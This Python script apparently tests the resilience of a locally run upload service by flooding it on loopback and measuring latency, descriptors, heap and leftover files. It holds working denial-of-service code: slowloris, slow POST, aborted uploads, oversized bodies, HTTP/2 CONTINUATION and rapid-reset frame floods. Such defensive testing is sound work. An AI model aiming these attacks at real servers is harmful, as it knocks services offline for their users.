"""Attacks the service on loopback and checks what it does meanwhile and what is left of it."""
import argparse
import asyncio
import concurrent.futures
import json
import multiprocessing
import os
import re
import resource
import shutil
import statistics
import struct
import subprocess
import tempfile
import threading
import time
import urllib.error
import urllib.request

from patience import SlowOrigin
from throughput import Application

KEY = "attack-bench-key-0123456789"
IMAGES = 150
PROBE_SECONDS = 5
HEAD = "Host: localhost\r\n"
KNOWN = HEAD + f"Authorization: Bearer {KEY}\r\n"
FORM = "Content-Type: multipart/form-data; boundary=b\r\n"
PART = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nS. No.,'


# --- The attacks: each is a coroutine on a port that ends by itself after so many seconds --------------------------------------------

async def connect(port, address="127.0.0.1"):
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))


async def hold(port, text, ends, drop=None, address="127.0.0.1"):
    """Sends the text, then a drop each second where there is one, until the server ends it or the time is over."""
    try:
        reader, writer = await connect(port, address)
    except OSError:
        return
    try:
        writer.write(text)
        await writer.drain()
        while time.monotonic() < ends:
            try:
                if not await asyncio.wait_for(reader.read(4096), 1):
                    return
            except asyncio.TimeoutError:
                if drop:
                    writer.write(drop)
    except OSError:
        pass
    finally:
        writer.close()


async def many(count, seconds, attack):
    """So many at once, opened within three seconds or so."""
    ends = time.monotonic() + seconds
    tasks = []
    for number in range(count):
        tasks.append(asyncio.create_task(attack(number, ends)))
        if number % 40 == 39:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks, return_exceptions=True)


def idle(port, seconds):
    return many(2000, seconds, lambda number, ends: hold(port, b"", ends))


def heads(port, seconds):
    return many(600, seconds, lambda number, ends: hold(port, b"GET / HTTP/1.1\r\nHost: localhost\r\n", ends, b"X: 1\r\n"))


def slow(port, seconds):
    raw = f"POST /upload HTTP/1.1\r\n{KNOWN}Content-Type: text/csv\r\nContent-Length: 1000000\r\n\r\n".encode()
    form = f"POST /upload HTTP/1.1\r\n{KNOWN}{FORM}Content-Length: 1000000\r\n\r\n{PART}".encode()
    return many(1100, seconds, lambda number, ends: hold(port, form if number % 2 else raw, ends, b"x"))


def addresses(port, seconds):
    """The same from a hundred addresses."""
    raw = f"POST /upload HTTP/1.1\r\n{KNOWN}Content-Type: text/csv\r\nContent-Length: 1000000\r\n\r\n".encode()
    return many(1100, seconds, lambda number, ends: hold(port, raw, ends, b"x", f"127.0.1.{1 + number % 100}"))


async def aborts(port, seconds):
    """3,600 uploads whose clients are gone right after the head, or in the middle of the part."""
    heads_of = [f"POST /upload HTTP/1.1\r\n{KNOWN}Content-Type: text/csv\r\nContent-Length: 1000000\r\n\r\n",
                f"POST /upload HTTP/1.1\r\n{KNOWN}{FORM}Content-Length: 1000000\r\n\r\n",
                f"POST /upload HTTP/1.1\r\n{KNOWN}{FORM}Content-Length: 1000000\r\n\r\n{PART}"]
    for number in range(3600):
        try:
            _, writer = await connect(port)
            writer.write(heads_of[number % 3].encode())
            if number % 2:
                await writer.drain()
                await asyncio.sleep(0)
            writer.transport.get_extra_info("socket").setsockopt(1, 13, struct.pack("ii", 1, 0))
            writer.transport.abort()
        except OSError:
            pass


async def pour(port, head, ends):
    """Sends as much as the server takes."""
    block = b"x" * 65536
    while time.monotonic() < ends:
        try:
            _, writer = await connect(port)
            writer.write(head)
            sent = 0
            while sent < 49_000_000 and time.monotonic() < ends:
                writer.write(block)
                sent += len(block)
                await writer.drain()
            writer.close()
        except OSError:
            await asyncio.sleep(0.05)


def keyless(port, seconds):
    """Bodies of 49 MB without a key: on /upload, /session, and where nobody wants one."""
    lines = ["POST /upload", "POST /session", "GET /docs", "DELETE /session"]
    return many(48, seconds, lambda number, ends: pour(port, (
        f"{lines[number % 4]} HTTP/1.1\r\n{HEAD}Content-Type: {'text/csv' if number % 4 == 0 else 'application/json'}\r\n"
        "Content-Length: 49000000\r\n\r\n").encode(), ends))


def ahead(port, seconds):
    """Requests without end on one connection, whose answers are not read."""
    return many(8, seconds, lambda number, ends: pour(port, f"GET /requests HTTP/1.1\r\n{KNOWN}\r\n".encode() * 20_000, ends))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(path):
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"


async def h2(port, ends, frames):
    """HTTP/2 connections, one after the other, with frames without end on each."""
    while time.monotonic() < ends:
        try:
            reader, writer = await connect(port)
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            asyncio.create_task(drain(reader))
            for block in frames():
                writer.write(block)
                await writer.drain()
                if time.monotonic() > ends or writer.is_closing():
                    break
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.05)


async def drain(reader):
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


def continuation(port, seconds):
    def frames():
        yield frame(1, 1, 1, request_headers(b"/docs"))
        while True:
            yield frame(9, 0, 1) * 2000
    return many(4, seconds, lambda number, ends: h2(port, ends, frames))


def reset(port, seconds):
    def frames():
        for start in range(1, 2_000_000, 200):
            yield b"".join(frame(1, 5, stream, request_headers(b"/docs")) + frame(3, 0, stream, b"\0\0\0\x08")
                           for stream in range(start, start + 200, 2))
    return many(8, seconds, lambda number, ends: h2(port, ends, frames))


ATTACKS = [idle, heads, slow, addresses, aborts, keyless, ahead, continuation, reset]


def strike(attack, port, seconds):
    # It stands for other machines: what it costs this one is not to be taken for the service's.
    os.nice(15)
    asyncio.run(asyncio.wait_for(attack(port, seconds), seconds + 60))


# --- The service and its ordinary caller --------------------------------------------------------------------------------------------

class Service:

    def __init__(self, work):
        self.work = work
        self.origin = SlowOrigin(0.02)
        os.mkdir(f"{work}/bin")
        with open(f"{work}/bin/java", "w") as java:
            java.write(f'#!/bin/sh\nulimit -n 1024\nexec {shutil.which("java")} "$@"\n')
        os.chmod(f"{work}/bin/java", 0o755)
        os.environ["PATH"] = f"{work}/bin:{os.environ['PATH']}"
        os.environ["JAVA_OPTIONS"] = f"-Xmx512m {os.environ.get('JAVA_OPTIONS', '')}"
        self.application = Application(work, f"http://127.0.0.1:{self.origin.port}", {}, {"DROMEDARY_SECURITY_API_KEY": KEY})
        self.port = self.application.port
        self.csv = "S. No.,Product Name,Input Image Urls\n" + "".join(
            f"{row},Mug {row},http://127.0.0.1:{self.origin.port}/{row}.jpg\n" for row in range(IMAGES))

    def ask(self, path, data=None, headers=None):
        request = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}", data, {"Authorization": f"Bearer {KEY}"} | (headers or {}))
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.load(answer)

    def job(self):
        """Seconds from the upload to its end. Only what is refused at the door is asked again, as every client does."""
        started = time.monotonic()
        request_id = self.again(lambda: self.ask("/upload", self.csv.encode(), {"Content-Type": "text/csv"}))["request_id"]
        while True:
            status = self.again(lambda: self.ask(f"/status/{request_id}"))
            if status["status"] in ("completed", "failed"):
                assert status["images"]["completed"] == IMAGES, status
                return time.monotonic() - started
            time.sleep(0.05)

    def again(self, call):
        for _ in range(3):
            try:
                return call()
            except (ConnectionError, urllib.error.URLError):
                self.refused += 1
        return call()

    refused = 0

    def descriptors(self):
        """Without the connections to the images' host, which are kept for the next job, as many as it needed."""
        kept = 0
        for table in ("tcp", "tcp6"):
            with open(f"/proc/{self.application.process.pid}/net/{table}") as connections:
                kept += sum(line.split()[2].endswith(f":{self.origin.port:04X}") for line in connections)
        return len(os.listdir(f"/proc/{self.application.process.pid}/fd")) - kept

    def temporary(self):
        return os.listdir(f"{self.work}/data/tmp")

    def heap_megabytes(self):
        jcmd = ["jcmd", str(self.application.process.pid)]
        subprocess.run([*jcmd, "GC.run"], check=True, capture_output=True)
        text = subprocess.run([*jcmd, "GC.heap_info"], check=True, capture_output=True, text=True).stdout
        return sum(int(used) for used in re.findall(r"^ \S.*? used (\d+)K", text, re.M) if "Metaspace" not in used) / 1024


class Probe:
    """Asks again and again on a new connection; keeps how long each answer took."""

    def __init__(self, service):
        self.service, self.waits, self.failures, self.going = service, [], [], True
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        while self.going:
            started = time.monotonic()
            try:
                self.service.again(lambda: self.service.ask("/requests?limit=1"))
                self.waits.append(time.monotonic() - started)
            except OSError as error:
                self.failures.append(str(error))
            time.sleep(0.2)

    def end(self):
        self.going = False
        self.thread.join()


def settled(service, descriptors):
    """Waits, a minute at most, until no temporary file and no descriptor more than before is there; what is, otherwise."""
    for _ in range(120):
        if not service.temporary() and service.descriptors() <= descriptors + 3:
            return []
        time.sleep(0.5)
    return [f"{len(service.temporary())} files in tmp, {service.descriptors() - descriptors} descriptors more"]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", default="")
    parser.add_argument("--seconds", type=int, default=20)
    arguments = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
    work = tempfile.mkdtemp(prefix="dromedary-attack-")
    service = Service(work)
    faults = []
    try:
        quiet = statistics.median([service.job() for _ in range(8)][4:])
        # Until every connection of the database's pool is open: they stay, and are nobody's doing.
        with concurrent.futures.ThreadPoolExecutor(16) as callers:
            list(callers.map(lambda _: service.ask("/requests"), range(400)))
        descriptors, heap = service.descriptors(), service.heap_megabytes()
        print(f"quiet: a job of {IMAGES} images in {quiet:.1f} s, {descriptors} descriptors, {heap:.0f} MB of heap", flush=True)
        for attack in ATTACKS:
            name = attack.__name__
            if arguments.only and name not in arguments.only.split(","):
                continue
            attacker = multiprocessing.Process(target=strike, args=(attack, service.port, arguments.seconds))
            begun = time.monotonic()
            probe = Probe(service)
            service.refused = 0
            attacker.start()
            time.sleep(3)
            jobs = [service.job()]
            while attacker.is_alive() and len(jobs) < 4:
                jobs.append(service.job())
            most_descriptors = service.descriptors()
            attacker.join(arguments.seconds + 90)
            attacker.kill()
            probe.end()
            left = settled(service, descriptors)
            slowest = max(probe.waits, default=0)
            print(f"{name} ({time.monotonic() - begun:.0f} s): a job in {statistics.median(jobs):.1f} s, {len(probe.waits)} answers, the slowest in {slowest:.2f} s, {len(probe.failures)} without, "
                  f"{service.refused} refused, {most_descriptors} descriptors, {service.heap_megabytes():.0f} MB of heap" + "".join(f"; LEFT: {fault}" for fault in left), flush=True)
            if statistics.median(jobs) > 2 * quiet:
                left.append(f"a job took {statistics.median(jobs):.1f} s instead of {quiet:.1f} s")
            if slowest > PROBE_SECONDS or len(probe.failures) > len(probe.waits) / 20:
                left.append(f"it did not answer: {probe.failures[:3]}")
            faults += [f"{name}: {fault}" for fault in left]
        more = service.heap_megabytes() - heap
        if more > 16:
            faults.append(f"{more:.0f} MB of heap more than before")
        if service.application.process.poll() is not None:
            faults.append("the service has ended")
    finally:
        service.application.stop()
        log = open(f"{work}/application.log").read()
        shutil.rmtree(work)
    if "OutOfMemoryError" in log:
        faults.append("an OutOfMemoryError")
    if len(log.splitlines()) > 1000:
        print(log[:20_000])
        faults.append("a log that an attacker fills")
    print(f"{len(log.splitlines())} lines of log; " + ("; ".join(faults) or "all is as before"))
    raise SystemExit(1 if faults else 0)


main()
